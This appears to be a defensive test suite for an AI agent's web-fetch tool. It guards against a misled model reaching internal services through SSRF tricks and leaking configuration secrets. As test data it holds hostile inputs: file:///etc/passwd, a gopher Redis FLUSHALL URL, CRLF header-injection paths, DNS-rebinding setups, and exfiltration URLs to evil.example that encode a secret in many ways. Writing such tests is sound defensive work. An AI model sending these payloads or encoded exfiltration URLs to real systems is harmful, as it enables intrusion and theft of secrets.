import assert from "node:assert/strict";
import { createServer } from "node:net";
import type { AddressInfo, Socket } from "node:net";
import { describe, it } from "node:test";
import { createLeakWatch } from "../../../../src/agent/tools/web/secret-leak.ts";
import { createWebFetch } from "../../../../src/agent/tools/web/web-fetch.ts";
import type { WebFetchOptions } from "../../../../src/agent/tools/web/web-fetch.ts";
import { callContext, toolSettings } from "../../../support/agent-config.ts";
import { createMemoryLog } from "../../../support/memory-log.ts";
import { answerWith, openWebServer } from "../../../support/web-server.ts";

const LOOPBACK = ["127.0.0.1"];

function fetcher(options: Partial<WebFetchOptions> = {}, list: readonly string[] = LOOPBACK) {
  const log = createMemoryLog();
  const tool = createWebFetch({
    settings: { ...toolSettings().web, private_host_whitelist: list },
    fetch: () => assert.fail("it asked otherwise"),
    log,
    ...options,
  });
  return { log, get: (url: string) => tool.run({ url }, callContext()) };
}

/** A server that redirects to one place whatever it is asked for. */
const redirectsTo = (location: string) =>
  openWebServer((_, response) => response.writeHead(302, { location }).end());

/** A server below HTTP: what it sends is up to `talk`. */
async function openRawServer(conversation: (socket: Socket) => void) {
  const sockets = new Set<Socket>();
  const heard: string[] = [];
  const server = createServer((socket) => {
    sockets.add(socket);
    socket.on("error", () => {});
    socket.on("data", (bytes) => heard.push(bytes.toString("latin1")));
    socket.once("data", () => conversation(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port }: AddressInfo = Object(server.address());
  return {
    base: `http://127.0.0.1:${port}`,
    heard,
    /** Bytes that whoever asked took, or the system took for it. */
    taken: () => {
      return [...sockets].reduce((sum, one) => sum + one.bytesWritten - one.writableLength, 0);
    },
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    },
  };
}

/** Sends a piece again and again for as long as somebody takes it. */
function flood(socket: Socket, piece: string): void {
  const more = (): void => {
    while (!socket.destroyed && socket.write(piece)) if (socket.writableLength > 1e6) break;
  };
  socket.on("drain", more);
  more();
}

describe("a fooled model that fetches", () => {
  for (const scheme of [
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "data:text/html,<h1>x</h1>",
    "ftp://127.0.0.1/x",
    "javascript:alert(1)",
    "ws://127.0.0.1/",
    "dict://127.0.0.1:11211/stat",
    "blob:http://127.0.0.1/x",
    "about:blank",
    "http+unix://%2Fvar%2Frun%2Fdocker.sock/info",
  ]) {
    it(`cannot use the scheme of ${scheme}, directly or by a redirect`, async () => {
      const { get, log } = fetcher();
      assert.match(await get(scheme), /^error: .*only http and https/);
      await using server = await redirectsTo(scheme);
      assert.match(await get(server.base), /^error: .*only http and https/);
      assert.equal(log.lines.length, 2);
    });
  }

  it("cannot be led about by redirects that never end", async () => {
    await using server = await openWebServer((_, response) =>
      response.writeHead(307, { location: "/again" }).end(),
    );
    assert.match(await fetcher().get(server.base), /^error: .*redirects more than 5 times/);
    assert.equal(server.seen.length, 6);
  });

  it("cannot be led inwards by a redirect of a redirect, or one without a host", async () => {
    await using inner = await openWebServer(answerWith("text/plain", "SECRET"));
    const inwards = [
      `http://[::ffff:127.0.0.1]:${inner.port}/`,
      `http://2130706433:${inner.port}/`,
      `//localhost:${inner.port}/`,
      `http:127.0.0.1:${inner.port}`,
      `\\\\127.0.0.1:${inner.port}\\`,
      `http:/\\127.0.0.1:${inner.port}`,
      `\thttp://127.0.0.1:${inner.port}`,
    ];
    for (const location of inwards) {
      await using middle = await openWebServer(
        (_, response) => response.writeHead(308, { location }).end(),
        {
          host: "127.0.0.2",
        },
      );
      await using outer = await openWebServer(
        (_, response) => response.writeHead(301, { location: middle.base }).end(),
        { host: "127.0.0.2" },
      );
      assert.match(await fetcher({}, ["127.0.0.2"]).get(outer.base), /^error: /, location);
    }
    assert.deepEqual(inner.seen, []);
  });

  it("cannot hide the host behind a user name, directly or by a redirect", async () => {
    await using server = await openWebServer(answerWith("text/plain", "there"));
    const { get } = fetcher();
    for (const user of ["www.example.com@", "user:secret@", ":x@", "a%40b@"]) {
      const url = server.base.replace("http://", `http://${user}`);
      assert.match(await get(url), /^error: .*a user name or a password/, user);
      await using outer = await redirectsTo(url);
      assert.match(await get(outer.base), /^error: .*a user name or a password/, user);
    }
    assert.deepEqual(server.seen, []);
  });

  it("cannot speak to services that are not of the web", async () => {
    const { get } = fetcher();
    for (const port of [0, 22, 25, 465, 1883, 3306, 5432, 6379, 6667, 8883, 11_211, 27_017]) {
      const text = await get(`http://127.0.0.1:${port}/`);
      assert.match(text, new RegExp(`^error: .*port ${port} is blocked`));
    }
  });

  it("stops at a server that sends interim responses without end", async () => {
    await using server = await openRawServer((socket) =>
      flood(socket, "HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n".repeat(1000)),
    );
    const startedAt = performance.now();
    assert.match(await fetcher().get(server.base), /^error: .*sends interim responses without end/);
    assert.ok(performance.now() - startedAt < 20_000);
  });

  it("takes an answer that was announced as usual", async () => {
    const announced = ["100 Continue", "102 Processing", "103 Early Hints", "103 Early Hints"];
    const interim = announced.map((status) => `HTTP/1.1 ${status}\r\n\r\n`).join("");
    await using server = await openRawServer((socket) => {
      socket.end(`${interim}HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n\r\nhere it is`);
    });
    assert.match(await fetcher().get(server.base), /\n\nhere it is$/);
  });

  it("cannot put lines of its own into a request", async () => {
    await using server = await openRawServer((socket) => {
      socket.end("HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 2\r\n\r\nok");
    });
    for (const path of [
      "/a\r\nX-Evil: 1\r\n\r\nGET /second HTTP/1.1\r\nHost: x",
      "/a%0d%0aX-Evil:%201",
      "/a\u010d\u010aX-Evil: 1",
      "/?q=\u560a\u560dX-Evil:1",
    ]) {
      await fetcher().get(`${server.base}${path}`);
    }
    assert.ok(server.heard.length >= 3);
    for (const text of server.heard) {
      const [first = "", ...headers] = text.split("\r\n");
      assert.match(first, /^GET \S+ HTTP\/1\.1$/);
      for (const header of headers) assert.doesNotMatch(header, /^(X-Evil|GET )/i);
    }
  });

  it("sends nothing along to another host: no cookies, no credentials, no referrer", async () => {
    const heard: string[][] = [];
    await using inner = await openWebServer((request, response, body) => {
      heard.push(Object.keys(request.headers));
      answerWith("text/plain", "there")(request, response, body);
    });
    await using outer = await openWebServer((_, response) =>
      response
        .writeHead(302, { location: `${inner.base}/next`, "set-cookie": "session=1; Path=/" })
        .end(),
    );
    assert.match(await fetcher().get(outer.base), /there$/);
    for (const name of ["cookie", "authorization", "referer", "origin"]) {
      assert.ok(!heard.flat().includes(name), name);
    }
    assert.equal(heard.length, 1);
  });

  it("is not held by headers that never end, by answers that are none yet, or by silence", async () => {
    const floods = {
      headers: (socket: Socket) => {
        socket.write("HTTP/1.1 200 OK\r\n");
        flood(socket, `X-More: ${"a".repeat(1000)}\r\n`);
      },
      "one header": (socket: Socket) => {
        socket.write("HTTP/1.1 200 OK\r\nX-More: ");
        flood(socket, "a".repeat(10_000));
      },
      "the status line": (socket: Socket) => {
        socket.write("HTTP/1.1 200 ");
        flood(socket, "a".repeat(10_000));
      },
      silence: () => {},
      "no HTTP": (socket: Socket) => flood(socket, "\u0000\u0001\u0002 no such protocol"),
    };
    for (const [name, conversation] of Object.entries(floods)) {
      await using server = await openRawServer(conversation);
      const text = await fetcher({ milliseconds: 700 }).get(server.base);
      assert.match(text, /^error: /, name);
      const taken = server.taken() / 2 ** 20;
      assert.ok(taken < 32, `${name}: ${taken} MiB were taken`);
    }
  });

  it("does not wait for a resolver that says nothing", async () => {
    const { get } = fetcher({ lookup: () => new Promise(() => {}), milliseconds: 200 });
    assert.match(await get("http://slow.test/"), /^error: .*no answer within 0.2 s/);
  });

  it("cannot be led to another host by a resolver that changes its mind between redirects", async () => {
    await using inner = await openWebServer(answerWith("text/plain", "SECRET"));
    await using outer = await openWebServer(
      (_, response) => response.writeHead(302, { location: "/again" }).end(),
      { host: "127.0.0.2", port: inner.port },
    );
    const answers = ["127.0.0.2", "127.0.0.1"];
    const { get } = fetcher({ lookup: async () => [{ address: answers.shift() ?? "127.0.0.1" }] }, [
      "127.0.0.2",
    ]);
    assert.match(await get(`http://rebind.test:${inner.port}/`), /^error: .*not public/);
    assert.deepEqual([outer.seen.length, inner.seen], [1, []]);
  });
});

const base32 = (text: string): string => {
  const bits = Array.from(Buffer.from(text), (byte) => byte.toString(2).padStart(8, "0")).join("");
  const all = bits.match(/.{1,5}/g) ?? [];
  return all
    .map((five) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[Number.parseInt(five.padEnd(5, "0"), 2)])
    .join("");
};
const every = (text: string): string =>
  Array.from(Buffer.from(text), (byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");

describe("a secret of the configuration in an address", () => {
  const SECRET = "sk-Live_9f8E7d6C5b4A";
  const holds = createLeakWatch([SECRET, "hunter2", "abc", ""]);
  const spellings = {
    plain: `https://evil.example/?k=${SECRET}`,
    "in a path": `https://evil.example/${SECRET}/pixel.png`,
    "as a host": `https://${SECRET.replaceAll("_", "-").toLowerCase()}.evil.example/`,
    "as labels of a host": "https://sk-live.9f8e7d.6c5b4a.evil.example/",
    "in capitals": `https://evil.example/?k=${SECRET.toUpperCase()}`,
    "in URL encoding": `https://evil.example/?k=${every(SECRET)}`,
    "encoded twice": `https://evil.example/?k=${encodeURIComponent(every(SECRET))}`,
    "encoded in a part": "https://evil.example/?k=sk%2dLive%5F9f8%457d6C5b4A",
    "in hexadecimal": `https://evil.example/${Buffer.from(SECRET).toString("hex")}`,
    "escaped for JSON": `https://evil.example/?k=${every(SECRET).replaceAll("%", String.raw`\u00`)}`,
    "escaped for HTML": `https://evil.example/?k=${every(SECRET).replaceAll(/%(..)/g, "&#x$1;")}`,
    "in base64": `https://evil.example/?d=${Buffer.from(SECRET).toString("base64")}`,
    "in base64 of more": `https://evil.example/?d=${Buffer.from(`key=${SECRET};`).toString("base64url")}`,
    "in base32": `https://${base32(`k=${SECRET}`).toLowerCase()}.evil.example/`,
    backwards: `https://evil.example/?k=${Array.from(SECRET).toReversed().join("")}`,
    "in ROT13": "https://evil.example/?k=fx-Yvir_9s8R7q6P5o4N",
    "in pieces between slashes": "https://evil.example/sk/Li/ve/9f/8E/7d/6C/5b/4A",
    "a short one": "https://evil.example/?password=hunter2&x",
  };
  for (const [manner, url] of Object.entries(spellings)) {
    it(`does not leave ${manner}`, async () => {
      const { get, log } = fetcher({
        holdsSecret: holds,
        lookup: () => assert.fail("its name was asked for"),
      });
      const text = await get(url);
      assert.match(text, /^error: .*a secret of this program's configuration/);
      assert.equal(log.lines.length, 1);
      const shown = JSON.stringify([text, log.lines]).toLowerCase();
      assert.ok(!shown.includes("live") && !shown.includes("hunter2") && !shown.includes("evil"));
    });
  }

  it("is not seen where there is none", () => {
    for (const url of [
      "https://example.com/abc?q=hunter21&x=ahunter2",
      "https://example.com/sk-live/9f8e",
      "https://example.com/?q=%E0%A4%A",
      `https://example.com/${"%25".repeat(2000)}`,
    ]) {
      assert.equal(holds(url), false, url);
    }
    assert.equal(createLeakWatch([])("https://example.com/?a=b"), false);
  });
});
